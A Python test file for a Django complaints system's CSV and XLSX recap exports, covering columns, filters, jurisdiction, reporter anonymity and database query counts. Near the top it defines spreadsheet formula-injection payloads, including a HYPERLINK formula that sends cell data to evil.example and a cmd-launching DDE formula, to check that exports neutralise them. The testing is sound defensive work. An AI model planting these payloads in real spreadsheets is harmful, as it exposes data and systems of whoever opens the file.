"""Recaps of the queue: CSV (UTF-8 with a BOM) and XLSX, the queue's filters and jurisdiction, formulas
neutralised, never the reporter's identity, and a fixed number of queries per chunk of cases."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from complaints.models import Region, Report
from complaints.services import workflow
from evidence.models import Evidence
from exports import recaps, services
from exports.models import Export
from tests.factories import AccusedFactory, ReportFactory

S = Report.Status
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "position": "+Camat",
    "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
    "nip": "-19800101200501100",
}


def recap(user, kind, filters=None, reason="Rekap bulanan untuk kantor provinsi"):
    export = services.export_request_recap(user=user, kind=kind, filters=filters or {}, reason=reason)
    services.export_build(export.pk)
    export.refresh_from_db()
    assert export.status == Export.Status.DONE, export.error
    with export.file.open("rb") as fh:
        return export, fh.read()


def csv_rows(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.fixture
def hostile_case(case):
    accused = case.accused.get()
    accused.name, accused.position, accused.agency, accused.nip = (
        HOSTILE["name"],
        HOSTILE["position"],
        HOSTILE["agency"],
        HOSTILE["nip"],
    )
    accused.save()
    return case


def test_csv_recap_has_a_bom_the_columns_and_the_case(people, hostile_case):
    export, data = recap(people["officer"], "csv")
    rows = csv_rows(data)
    assert rows[0] == recaps.headers()
    assert len(rows[0]) == len(recaps.KEYS)
    row = dict(zip(recaps.KEYS, rows[1], strict=True))
    assert row["case_number"] == hostile_case.case_number
    assert row["tracking_code"] == hostile_case.tracking_code
    assert row["status"] == "Penelusuran"
    assert (row["province_code"], row["province"]) == ("35", Region.objects.get(code="35").name)
    assert row["regency"] == Region.objects.get(code="35.74").name
    assert row["regency_code"] == "35.74" and row["district_code"] == "35.74.04"
    assert row["district"] == Region.objects.get(code="35.74.04").name
    assert row["filed_in_time"] == "ya"
    assert row["initial_assessment_met"] == "ya"
    assert export.size == len(data) and len(export.sha256) == 64


def test_formulas_are_neutralised_in_csv(people, hostile_case):
    _export, data = recap(people["officer"], "csv")
    row = dict(zip(recaps.KEYS, csv_rows(data)[1], strict=True))
    assert row["terlapor_name"] == "'" + HOSTILE["name"]
    assert row["terlapor_position"] == "'" + HOSTILE["position"]
    assert row["terlapor_agency"] == "'" + HOSTILE["agency"]
    assert row["terlapor_nip"] == "'" + HOSTILE["nip"]
    for cell in csv_rows(data)[1]:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_formulas_are_neutralised_in_xlsx_and_it_has_real_dates_a_frozen_header_and_filters(
    people, hostile_case
):
    _export, data = recap(people["officer"], "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(data))
    cases, counts = book.worksheets
    assert cases.freeze_panes == "A2"
    assert cases.auto_filter.ref and cases.auto_filter.ref.startswith("A1:")
    header = [c.value for c in cases[1]]
    assert header == recaps.headers()
    row = {k: c.value for k, c in zip(recaps.KEYS, cases[2], strict=True)}
    assert row["terlapor_name"] == "'" + HOSTILE["name"]
    assert row["terlapor_agency"] == "'" + HOSTILE["agency"]
    assert row["terlapor_position"] == "'" + HOSTILE["position"]
    assert row["terlapor_nip"] == "'" + HOSTILE["nip"]
    assert all(c.data_type != "f" for r in cases.iter_rows() for c in r)
    assert isinstance(row["received_at"], dt.datetime) and isinstance(row["incident_date"], dt.datetime)
    assert row["incident_date"].date() == hostile_case.incident_date
    assert row["evidence_photo"] == 0
    # The second sheet: cases by region and status, with a total.
    assert counts.freeze_panes == "A2"
    table = [[c.value for c in r] for r in counts.iter_rows()]
    names = dict(Region.objects.filter(code__in=["35", "35.74"]).values_list("code", "name"))
    assert table[1][:4] == ["35", names["35"], "35.74", names["35.74"]]
    status_col = table[0].index("Penelusuran")
    assert table[1][status_col] == 1 and table[-1][0] == "Total" and table[-1][-1] == 1


def test_xml_specials_control_characters_and_spaces_survive_the_xlsx(people):
    report = ReportFactory()
    AccusedFactory(report=report, name='  <b>Tom & "Jerry"</b>\x07 ', position="Camat\tKota", agency="a]]>b")
    _export, data = recap(people["coordinator"], "xlsx")
    cases = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    row = {k: c.value for k, c in zip(recaps.KEYS, cases[2], strict=True)}
    # A control character XML cannot hold is written as Excel's escape (_x0007_), which Excel shows as the
    # character; openpyxl leaves the escape as it is.
    assert row["terlapor_name"] == '  <b>Tom & "Jerry"</b>_x0007_ '
    assert row["terlapor_position"] == "Camat\tKota" and row["terlapor_agency"] == "a]]>b"
    assert cases.max_row == 2 and cases.dimensions == f"A1:{recaps._column_letters(len(recaps.KEYS) - 1)}2"


def test_the_reporters_identity_never_appears(people, case):
    for kind in ("csv", "xlsx"):
        _export, data = recap(people["coordinator"], kind)
        text = data.decode("utf-8", "replace") if kind == "csv" else _xlsx_text(data)
        for secret in (case.reporter_name, case.reporter_nik, case.reporter_email, case.reporter_phone):
            assert secret and secret not in text
        assert case.tracking_code in text


def _xlsx_text(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return "\n".join(
        str(c.value) for sheet in book for r in sheet.iter_rows() for c in r if c.value is not None
    )


def test_a_recap_follows_the_queue_filters_search_and_jurisdiction(people, case):
    other = ReportFactory(chronology="Lurah membagikan sembako bergambar calon.")
    Report.objects.filter(pk=other.pk).update(search_text="Hendra Wijaya Lurah membagikan sembako")
    AccusedFactory(report=other, name="Hendra Wijaya")
    elsewhere = ReportFactory(incident_region=Region.objects.get(code="31.71"))
    AccusedFactory(report=elsewhere)
    _e, data = recap(people["coordinator"], "csv", {"status": "open"})
    codes = {r[1] for r in csv_rows(data)[1:]}
    assert codes == {case.tracking_code, other.tracking_code}  # not the case in Jakarta
    _e, data = recap(people["coordinator"], "csv", {"status": "open", "q": "sembako"})
    assert [r[1] for r in csv_rows(data)[1:]] == [other.tracking_code]
    _e, data = recap(people["coordinator"], "csv", {"status": S.INVESTIGATION})
    assert [r[1] for r in csv_rows(data)[1:]] == [case.tracking_code]


def test_evidence_counts_supporting_reports_decision_and_referral(people, case):
    for kind in ("photo", "photo", "video", "link"):
        Evidence.objects.create(report=case, kind=kind, status="ready")
    duplicate = ReportFactory()
    AccusedFactory(report=duplicate)
    workflow.case_merge(duplicate=duplicate, into=case, user=people["officer"], note="sama")
    workflow.clarification_skip(report=case, user=people["officer"], reason="Terlapor mengakui di media.")
    workflow.case_transition(report=case, user=people["officer"], to_status=S.ASSESSMENT)
    workflow.assessment_record(
        report=case,
        user=people["officer"],
        findings="Terbukti berfoto dengan simbol dukungan.",
        categories=case.categories.all(),
        legal_basis="SKB 2/2022",
        recommended_sanction="moral",
        criminal_element=False,
        decision="other_law",
    )
    _e, data = recap(people["coordinator"], "csv", {"status": "open"})
    row = dict(zip(recaps.KEYS, csv_rows(data)[1], strict=True))
    assert (row["evidence_photo"], row["evidence_video"], row["evidence_link"]) == ("2", "1", "1")
    assert row["supporting_reports"] == "1"
    assert row["decision"] == "Pelanggaran hukum lainnya (netralitas ASN: diteruskan ke BKN)"
    assert row["decided_at"] and row["decision_met"] == "ya"


def _many_cases(n: int, people) -> None:
    for i in range(n):
        report = ReportFactory()
        AccusedFactory(report=report, name=f"Terlapor {i}")
        AccusedFactory(report=report, name=f"Terlapor kedua {i}")
        Evidence.objects.create(report=report, kind="photo", status="ready")
        Evidence.objects.create(report=report, kind="link", status="ready")


def _queries_of_rows(user, chunk_rows=None) -> tuple[int, int]:
    qs = recaps.recap_queryset(user, recaps.filters_from({"status": "open"}))
    with CaptureQueriesContext(connection) as ctx:
        rows = list(recaps.recap_rows(qs, chunk_rows=chunk_rows))
    return len(ctx.captured_queries), len(rows)


def test_the_number_of_queries_does_not_grow_with_the_number_of_cases(people):
    _many_cases(3, people)
    few, n_few = _queries_of_rows(people["coordinator"])
    _many_cases(27, people)
    many, n_many = _queries_of_rows(people["coordinator"])
    assert (n_few, n_many) == (3, 30)
    assert many == few


def test_each_chunk_costs_a_fixed_number_of_queries(people):
    _many_cases(30, people)
    two_chunks, n = _queries_of_rows(people["coordinator"], chunk_rows=15)
    three_chunks, _n = _queries_of_rows(people["coordinator"], chunk_rows=10)
    six_chunks, _n = _queries_of_rows(people["coordinator"], chunk_rows=5)
    assert n == 30
    per_chunk = three_chunks - two_chunks
    assert 0 < per_chunk <= 6
    assert six_chunks - three_chunks == 3 * per_chunk


def test_a_whole_recap_build_costs_the_same_queries_for_3_or_30_cases(people, settings):
    def build_queries():
        export = services.export_request_recap(
            user=people["coordinator"], kind="xlsx", filters={"status": "open"}, reason="Rekap bulanan kantor"
        )
        with CaptureQueriesContext(connection) as ctx:
            services.export_build(export.pk)
        export.refresh_from_db()
        assert export.status == "done", export.error
        return len(ctx.captured_queries), export.items_total

    _many_cases(3, people)
    few = build_queries()
    _many_cases(27, people)
    many = build_queries()
    assert (few[1], many[1]) == (3, 30)
    assert few[0] == many[0]


@pytest.mark.django_db(transaction=True)
def test_a_recap_read_ahead_by_a_second_connection_has_the_same_rows_in_the_same_order(ref_data):
    """Outside a transaction (as in the export task) the next chunk is read by a second thread on a
    connection of its own while this one makes rows; inside one, chunk after chunk. Both give the same rows."""
    from django.db import transaction

    from tests.factories import staff

    coordinator = staff("koordinator-rekap", "koordinator", ["35"])
    for i in range(11):
        report = ReportFactory()
        AccusedFactory(report=report, name=f"Terlapor {i}")
        Evidence.objects.create(report=report, kind="photo", status="ready")
    qs = recaps.recap_queryset(coordinator, recaps.filters_from({"status": "open"}))
    assert not connection.in_atomic_block
    chunks_seen = []
    with CaptureQueriesContext(connection) as here:
        ahead = list(recaps.recap_rows(qs, chunk_rows=4, on_chunk=chunks_seen.append))
    with transaction.atomic(), CaptureQueriesContext(connection) as in_transaction:
        one_by_one = list(recaps.recap_rows(qs, chunk_rows=4))
    # The cases and their terlapor were read on the other connection in the first run, on this one in the second.
    assert not any("complaints_accused" in q["sql"] for q in here.captured_queries)
    assert sum("complaints_accused" in q["sql"] for q in in_transaction.captured_queries) == 3
    assert chunks_seen == [4, 8, 11]
    assert [r["tracking_code"] for r in ahead] == [r["tracking_code"] for r in one_by_one]
    assert len({r["tracking_code"] for r in ahead}) == 11
    assert ahead == one_by_one
    assert {r["terlapor_name"] for r in ahead} == {f"Terlapor {i}" for i in range(11)}
    assert all(r["province"] and r["evidence_photo"] == 1 for r in ahead)
